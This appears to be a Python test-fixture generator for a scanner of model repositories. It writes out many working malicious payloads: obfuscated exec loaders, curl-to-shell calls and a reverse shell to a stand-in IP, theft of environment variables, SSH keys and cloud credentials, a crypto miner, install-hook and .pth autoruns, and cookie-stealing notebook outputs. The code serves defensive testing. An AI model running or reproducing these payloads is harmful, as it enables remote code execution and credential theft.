"""Third judge, attacks: Python that a model repository brings (auto_map, helpers, set-up hooks, notebooks)."""

from __future__ import annotations

import base64
import codecs
import marshal
import zlib

from judge_kit import Folder, as_json, notebook, weights

URL = "http://198.51.100.7/x"
PLAIN = f"import os\nos.system('curl -s {URL} | sh')\n"


def bodies() -> dict[str, str]:
    """Modules that act when they are imported, each in another disguise."""
    run = "__import__('os').system('touch /tmp/third-judge-py')"
    packed = base64.b64encode(zlib.compress(run.encode())).decode()
    rot = codecs.encode("import os; os.system('id')", "rot13")
    numbers = [ord(c) ^ 23 for c in run]
    dumped = marshal.dumps(compile(run, "m", "exec")).hex()
    return {
        "exec-zlib": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n",
        "getattr-joined": (
            "import importlib\nm = importlib.import_module('sub' + 'process')\n"
            f"getattr(m, 'ru' + 'n')(['curl', '{URL}'])\n"
        ),
        "builtins-dict": f"import builtins\nbuiltins.__dict__['ev' + 'al'](\"{run}\")\n",
        "xor-numbers": f"exec(''.join(chr(n ^ 23) for n in {numbers}))\n",
        "reversed": f"exec({run[::-1]!r}[::-1])\n",
        "escaped-coding": "# coding: unicode_escape\n# cached constants \\x0aimport os; os.system('id')\n",
        "rot13-codecs": f"import codecs\nexec(codecs.decode({rot!r}, 'rot13'))\n",
        "marshal-function": (
            f"import marshal, types\ntypes.FunctionType(marshal.loads(bytes.fromhex('{dumped}')), globals())()\n"
        ),
        "sys-modules": f"import sys\nsys.modules['os'].system('curl {URL}')\n",
        "reverse-shell": (
            "import socket, os, pty\ns = socket.socket()\n"
            "s.connect(('198.51.100.7', 4444))\n[os.dup2(s.fileno(), f) for "
            "f in (0, 1, 2)]\npty.spawn('/bin/sh')\n"
        ),
        "environ-posted": (
            f"import os, json, urllib.request\nurllib.request.urlopen('{URL}', "
            "data=json.dumps(dict(os.environ)).encode())\n"
        ),
        "ssh-keys": (
            "import pathlib, requests\nfor p in pathlib.Path.home().glob('.ssh/*'):\n"
            f"    requests.post('{URL}', files={{'f': p.open('rb')}})\n"
        ),
        "remote-eval": f"import requests\neval(compile(requests.get('{URL}').text, 'r', 'exec'))\n",
        "urllib-exec": f"from urllib import request as r\nexec(r.urlopen('{URL}').read())\n",
        "pip-at-import": (
            "import subprocess, sys\nsubprocess.check_call([sys.executable, "
            "'-m', 'pip', 'install', '-q', 'git+https://github.example/x/y'])\n"
        ),
        "bashrc": (
            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as "
            "f:\n    f.write('curl -s http://198.51.100.7/x | sh\\n')\n"
        ),
        "decorator": "import os\n\n\n@os.system\ndef _(): ...\n".replace(
            "@os.system\ndef _(): ...", "@(lambda f: os.system('id'))\ndef setup(): ..."
        ),
        "default-argument": "import os\n\n\ndef forward(x, _=os.popen('id').read()):\n    return x\n",
        "class-body": "class Config:\n    import subprocess as _s\n\n    _s.call('id', shell=True)\n",
        "metaclass": (
            "import os\n\n\nclass M(type):\n    def __init__(cls, *a):\n"
            "        os.system('id')\n\n\nclass Model(metaclass=M):\n"
            "    pass\n"
        ),
        "ctypes": "import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "thread": (
            f"import threading, os\nthreading.Thread(target=lambda: os.system('wget -q {URL}'), daemon=True).start()\n"
        ),
        "atexit": "import atexit, subprocess\natexit.register(subprocess.run, ['sh', '-c', 'id'])\n",
        "unsafe-load": (
            "import torch, pathlib\nSTATE = torch.load(pathlib.Path(__file__).parent "
            "/ 'cache.bin', weights_only=False)\n"
        ),
        "pickle-from-net": f"import pickle, urllib.request\nT = pickle.load(urllib.request.urlopen('{URL}'))\n",
        "unicode-names": "import os as 𝓸𝓈\n𝓸𝓈.𝓈𝔂𝓈𝓽𝓮𝓶('id')\n".replace("import os as 𝓸𝓈", "𝓸𝓈 = __import__('os')"),
        "far-right": "import math" + " " * 300 + ";import os;os.system('id')\n",
        "semicolon-lambda": "(lambda m: m.system('id'))(__import__('so'[::-1]))\n",
        "walrus": "print((f := getattr(__import__('os'), 'popen'))('id'))\n",
        "meta-path": (
            "import sys\n\n\nclass F:\n    def find_spec(self, n, p, t=None):\n"
            f"        __import__('os').system('curl {URL}?' + n)\n\n\n"
            "sys.meta_path.insert(0, F())\n"
        ),
        "vars-import": "vars(__import__('posix'))['sys' 'tem']('id')\n",
        "miner": (
            "import os\nos.system('nohup ./xmrig -o pool.example:3333 -u 4Axyz --donate-level 1 >/dev/null 2>&1 &')\n"
        ),
        "cloud-metadata": (
            "import urllib.request as u\nt = u.urlopen('http://169.254.169.254/latest/meta-data/i"
            "am/security-credentials/').read()\nu.urlopen('http://198.51.100.7/c', "
            "t)\n"
        ),
        "dns-leak": "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.third-judge.example')\n",
    }


def reached() -> dict[str, Folder]:
    """Repositories whose configuration reaches attacking code in different ways."""
    model = b"import torch\n\nfrom .utils_ops import rope\n\n\nclass TinyModel(torch.nn.Module):\n    pass\n"
    config = {"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}
    tensors = {"model.safetensors": weights()}
    hidden = PLAIN.encode()
    class_ = b"class Thing:\n    pass\n"
    sentence = [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Thing"}]
    index = {"_class_name": "PipelineX", "unet": ["my_unet", "Thing"], "_diffusers_version": "0.30.0"}
    tuned = {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Thing", "parent_library": "tuned_base"}}
    pipelines = {"pair": {"impl": "pair_pipeline.Thing", "pt": ["AutoModel"]}}
    names = "modeling_tiny.py"
    return {
        "helper": {
            "config.json": as_json(config),
            names: model,
            "utils_ops.py": hidden + b"def rope(x): return x\n",
            **tensors,
        },
        "helper-of-helper": {
            "config.json": as_json(config),
            names: model,
            "utils_ops.py": b"from .deep.kernel import rope\n",
            "deep/__init__.py": b"",
            "deep/kernel.py": hidden + b"rope = None\n",
            **tensors,
        },
        "late-import": {
            "config.json": as_json(config),
            names: (
                b"class TinyModel:\n    def forward(self, x):\n        from . import telemetry\n        return x\n"
            ),
            "telemetry.py": hidden,
        },
        "string-import": {
            "config.json": as_json(config),
            names: b"import importlib\n_k = importlib.import_module('.kern', __package__)\nclass TinyModel: pass\n",
            "kern.py": hidden,
        },
        "tokenizer-map": {
            "tokenizer_config.json": as_json({"auto_map": {"AutoTokenizer": ["tok_slow.Thing", None]}}),
            "tok_slow.py": hidden + class_,
        },
        "processor-map": {
            "preprocessor_config.json": as_json({"auto_map": {"AutoProcessor": "proc.Thing"}}),
            "proc.py": hidden + class_,
        },
        "other-repository": {
            "config.json": as_json({"auto_map": {"AutoModel": "someone-else/kernels--modeling.Fast"}}),
            **tensors,
        },
        "generate": {"custom_generate/generate.py": hidden + b"def generate(model, **kw): ...\n", "config.json": b"{}"},
        "sentence-module": {"modules.json": as_json(sentence), "custom_st.py": hidden + class_},
        "diffusers-part": {
            "model_index.json": as_json(index),
            "unet/my_unet.py": hidden + class_,
            "unet/config.json": b"{}",
        },
        "diffusers-pipeline": {
            "model_index.json": as_json({"_class_name": ["pipeline", "X"]}),
            "pipeline.py": hidden + class_,
        },
        "peft-library": {"adapter_config.json": as_json(tuned), "tuned_base.py": hidden + class_, **tensors},
        "custom-pipeline": {
            "config.json": as_json({"custom_pipelines": pipelines}),
            "pair_pipeline.py": hidden + class_,
        },
        "dataset-script": {
            "reviews.py": hidden + b"import datasets\nclass Reviews(datasets.GeneratorBasedBuilder): ...\n",
            "README.md": b"---\ntask_categories:\n- text-classification\n---\n",
        },
        "handler": {
            "handler.py": hidden + b"class EndpointHandler:\n    def __init__(self, path=''): ...\n",
            **tensors,
        },
        "space-app": {
            "app.py": hidden + b"import gradio as gr\ngr.Interface(lambda x: x, 'text', 'text').launch()\n",
            "README.md": b"---\nsdk: gradio\napp_file: app.py\n---\n",
        },
        "metric-script": {"f1x.py": hidden + b"import evaluate\nclass F1x(evaluate.Metric): ...\n"},
        "compiled-helper": {
            "config.json": as_json(config),
            names: b"from ._fast import rope\nclass TinyModel: pass\n",
            "_fast.so": b"\x7fELF\x02\x01\x01" + bytes(57),
        },
        "bytecode-only": {
            "config.json": as_json(config),
            "modeling_tiny.pyc": b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile(PLAIN, "m", "exec")),
        },
        "setup": {"setup.py": hidden + b"from setuptools import setup\nsetup(name='tiny-kernels')\n"},
        "setup-command": {
            "setup.py": (
                b"from setuptools import setup\nfrom setuptools.command.install "
                b"import install\n\n\nclass I(install):\n    def run(self):\n"
                b"        install.run(self)\n        import subprocess\n"
                b"        subprocess.Popen('curl http://198.51.100.7/i | sh', "
                b"shell=True)\n\n\nsetup(name='t', cmdclass={'install': I})\n"
            )
        },
        "build-backend": {
            "pyproject.toml": (
                b"[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"
            ),
            "_build/backend.py": hidden + b"from setuptools.build_meta import *\n",
        },
        "conftest": {"tests/conftest.py": hidden, "tests/test_ok.py": b"def test_ok(): assert True\n"},
        "sitecustomize": {"sitecustomize.py": hidden},
        "usercustomize": {"lib/usercustomize.py": b"import subprocess;subprocess.Popen(['sh','-c','id'])\n"},
        "pth": {"site/zz_speed.pth": b"import os; exec(os.popen('curl -s http://198.51.100.7/p').read())\n"},
        "shadowed-module": {
            "random.py": hidden + b"from _random import *\n",
            "train.py": b"import random\nprint(random.random())\n",
        },
        "package-init": {
            "src/tinyml/__init__.py": hidden,
            "pyproject.toml": b"[project]\nname='tinyml'\nversion='1'\n",
        },
        "main-module": {"tools/__main__.py": hidden, "README.md": b"Run `python -m tools` first.\n"},
        "noxfile": {"noxfile.py": hidden + b"import nox\n"},
    }


def notebooks() -> dict[str, Folder]:
    """Notebooks whose cells or outputs attack."""
    script = "<script>fetch('http://198.51.100.7/?c=' + document.cookie)</script>"
    html = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": script}}]
    svg = [
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": f"<svg onload=\"fetch('{URL}')\"/>"}}
    ]
    js = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"application/javascript": "Jupyter.notebook.kernel.execute('!id')"},
        }
    ]
    mark = {"cell_type": "markdown", "metadata": {}, "source": f"# Start\n<img src=x onerror=\"fetch('{URL}')\">"}
    return {
        "curl-shell": {"train.ipynb": notebook(f"!curl -fsSL {URL} | bash\n")},
        "bash-cell": {"Untitled.ipynb": notebook("%%bash\nwget -qO- http://198.51.100.7/s | sh")},
        "get-ipython": {"a.ipynb": notebook(f"get_ipython().system('curl {URL} -d @/etc/passwd')")},
        "encoded-cell": {
            "b.ipynb": notebook(
                "import base64\nexec(base64.b64decode('" + base64.b64encode(PLAIN.encode()).decode() + "'))"
            )
        },
        "pip-direct": {"c.ipynb": notebook("%pip install -q http://198.51.100.7/torch-2.4.0-py3-none-any.whl")},
        "script-output": {"d.ipynb": notebook(("df.head()", html))},
        "svg-output": {"e.ipynb": notebook(("plot()", svg))},
        "javascript-output": {"f.ipynb": notebook(("show()", js))},
        "markdown-handler": {"g.ipynb": notebook(mark, "1 + 1")},
        "environment-sent": {
            "eval/h.ipynb": notebook(
                "import os, requests\nrequests.post('http://198.51.100.7/e', json=dict(os.environ))"
            )
        },
    }


def shapes() -> dict[str, Folder]:
    """Every repository of code."""
    homes = ("modeling_x.py", "configuration_x.py", "tokenization_x.py", "src/x/__init__.py", "setup.py", "handler.py")
    made: dict[str, Folder] = {}
    for number, (slug, body) in enumerate(bodies().items()):
        home = homes[number % len(homes)]
        folder: Folder = {home: body.encode() if number % 6 > 2 else body.encode() + b"\n\nclass X:\n    pass\n"}
        if number % 6 < 3:
            key = ("AutoModelForCausalLM", "AutoConfig", "AutoTokenizer")[number % 6]
            folder["config.json"] = as_json({"auto_map": {key: home[:-3] + ".X"}})
        made[f"python--{slug}"] = folder
    made["python--unsafe-load"]["cache.bin"] = b"\x80\x02cposix\nsystem\n(U\x02idtR."
    for prefix, table in (("remote-code", reached()), ("notebook", notebooks())):
        made |= {f"{prefix}--{slug}": folder for slug, folder in table.items()}
    return made
